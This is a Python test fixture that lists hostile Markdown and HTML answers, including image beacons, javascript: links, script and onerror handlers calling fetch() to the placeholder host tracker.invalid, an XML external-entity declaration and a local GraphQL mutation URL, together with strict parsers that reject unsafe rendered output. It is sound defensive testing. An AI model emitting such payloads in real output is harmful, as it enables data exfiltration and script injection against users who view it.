"""Answers that try to be more than text, and a reader that complains if one succeeds."""

import re
from html.parser import HTMLParser

from ragstream_core.text.markup import TAGS

HOST = "tracker.invalid"
VOID = {"br", "hr"}
EVIL = f"http://{HOST}"
LOCAL = "http://127.0.0.1:3000/graphql?query=mutation%7BlaunchRun%7D"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"

PAYLOADS = [
    # Markdown that fetches
    f"![a]({EVIL}/inline.png)",
    f'![a]({EVIL}/title.png "a title")',
    f"![a](<{EVIL}/angle.png>)",
    f"![a][r]\n\n[r]: {EVIL}/reference.png",
    f"![r]\n\n[r]: {EVIL}/shortcut.png",
    f"![r][]\n\n[r]: {EVIL}/collapsed.png",
    f"[![a]({EVIL}/badge.png)]({EVIL}/linked)",
    f"![a]({LOCAL})",
    f"![a](//{HOST}/protocol-relative.png)",
    f"![a](data:image/png;base64,{PIXEL})",
    f"| a | b |\n|---|---|\n| ![a]({EVIL}/cell.png) | <img src={EVIL}/cell> |",
    f"> - 1. ![a]({EVIL}/nested.png)",
    f"- ![a]({EVIL}/item.png)\n\n      ![a]({EVIL}/code.png)",
    f"# ![a]({EVIL}/heading.png)\n\n![a]({EVIL}/setext.png)\n===",
    f"**![a]({EVIL}/strong.png)** *[l]({EVIL}/em)* ~~<{EVIL}/struck>~~",
    # Markdown that links
    f"[click]({EVIL}/link)",
    f"[click](javascript:fetch('{EVIL}'))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox)",
    f"<{EVIL}/auto>",
    "<javascript:alert(1)>",
    "<someone@tracker.invalid>",
    f"bare {EVIL}/bare and www.{HOST}",
    f"[a]: {EVIL}/definition\n[a]",
    f"note[^1]\n\n[^1]: ![a]({EVIL}/footnote.png)",
    # HTML
    f"<img src={EVIL}/img.png>",
    f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">',
    f'<picture><source srcset="{EVIL}/p.webp"><img></picture>',
    f"<IMG\nSRC='{EVIL}/newline.png'\n>",
    f'<img src=x onerror="fetch(\'{EVIL}/onerror\')">',
    f"<script src={EVIL}/s.js></script><script>fetch('{EVIL}/inline')</script>",
    f'<svg><image href="{EVIL}/svg.png"/><use href="{EVIL}/use.svg#a"/></svg>',
    f"<svg onload=\"fetch('{EVIL}/onload')\"></svg>",
    f'<math><mtext><img src="{EVIL}/math.png"></mtext></math>',
    f'<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object>',
    f'<embed src="{EVIL}/embed"><audio src="{EVIL}/a.ogg" autoplay></audio>',
    f'<video poster="{EVIL}/poster.png"><track src="{EVIL}/t.vtt"></video>',
    f'<link rel="stylesheet" href="{EVIL}/l.css"><link rel="preconnect" href="{EVIL}">',
    f"<style>@import '{EVIL}/i.css'; body {{ background: url({EVIL}/bg.png) }}</style>",
    f'<p style="background: url({EVIL}/style.png)">text</p>',
    f'<div style="position:fixed;inset:0">cover</div><a href="{EVIL}">x</a>',
    f'<meta http-equiv="refresh" content="0; url={EVIL}/refresh">',
    f'<base href="{EVIL}/"><img src="relative.png">',
    f'<form action="{EVIL}/form"><input type=image src="{EVIL}/input.png"></form>',
    f'<body background="{EVIL}/body.png"><table background="{EVIL}/table.png">',
    f"<!--><img src={EVIL}/comment.png>-->",
    f"<![CDATA[<img src={EVIL}/cdata.png>]]>",
    f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM '{EVIL}/entity'>]>",
    f"<details open ontoggle=\"fetch('{EVIL}/toggle')\"><summary>s</summary></details>",
    f"<noscript><p title=\"</noscript><img src={EVIL}/mutation.png>\"></noscript>",
    # entities, escapes, odd characters
    f"&lt;img src={EVIL}/entity.png&gt;",
    f"&#60;img src={EVIL}/decimal.png&#62; &#x3c;script&#x3e;",
    f"!\\[a]({EVIL}/escaped.png) \\![a]({EVIL}/escaped.png)",
    f"<\x00img src={EVIL}/nul.png>\x1b[31m\u202egnp.lave\u202c",
    f"`<img src={EVIL}/span.png>` ``![a]({EVIL}/span.png)``",
    f"```html\n<img src={EVIL}/fence.png>\n```\n</code></pre><img src={EVIL}/after.png>",
    f'```"><img src={EVIL}/info.png>\ncode\n```',
    # what this page's toolkit gives a meaning of its own
    ":red[danger] :material/delete: :streamlit: :rainbow-background[x] :small[y]",
    f":red[![a]({EVIL}/directive.png)]",
    f"$\\href{{{EVIL}}}{{x}} \\includegraphics{{{EVIL}/latex.png}}$ $$\\url{{{EVIL}}}$$",
]  # fmt: skip


class Strict(HTMLParser):
    """Reads HTML as a browser would and complains about all that is not plain structure."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open, self.text = [], []

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS | {"div"}, tag
        assert not attrs or (tag == "ol" and [n for n, _ in attrs] == ["start"]), (tag, attrs)
        assert all(value.isascii() and value.isdigit() for _, value in attrs)
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl):
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data):
        raise AssertionError(f"an instruction: {data}")

    unknown_decl = handle_decl


class Drawn(Strict):
    """Reads HTML of ours around foreign text: more tags, and attributes that are ours alone."""

    TAGS = TAGS | {"div", "mark", "details", "summary", "span", "i"}
    VALUES = {
        "class": re.compile(r"cited|budget|legend"),
        "style": re.compile(
            r"(width:[0-9.]+%;)?background:#[0-9a-f]{6}|display:flex;[-a-z0-9:;(),. ]+"
        ),
        "title": re.compile(r"[^\n]+: [0-9,]+ tokens"),
    }

    def handle_starttag(self, tag, attrs):
        assert tag in self.TAGS, tag
        for name, value in attrs:
            assert self.VALUES[name].fullmatch(value), (tag, name, value)
        if tag not in VOID:
            self.open.append(tag)


def read(html: str, kind: type[Strict] = Strict) -> str:
    """Return the text of HTML that holds nothing but the allowed tags."""
    parser = kind()
    parser.feed(html)
    parser.close()
    assert parser.open == [], parser.open
    return "".join(parser.text)
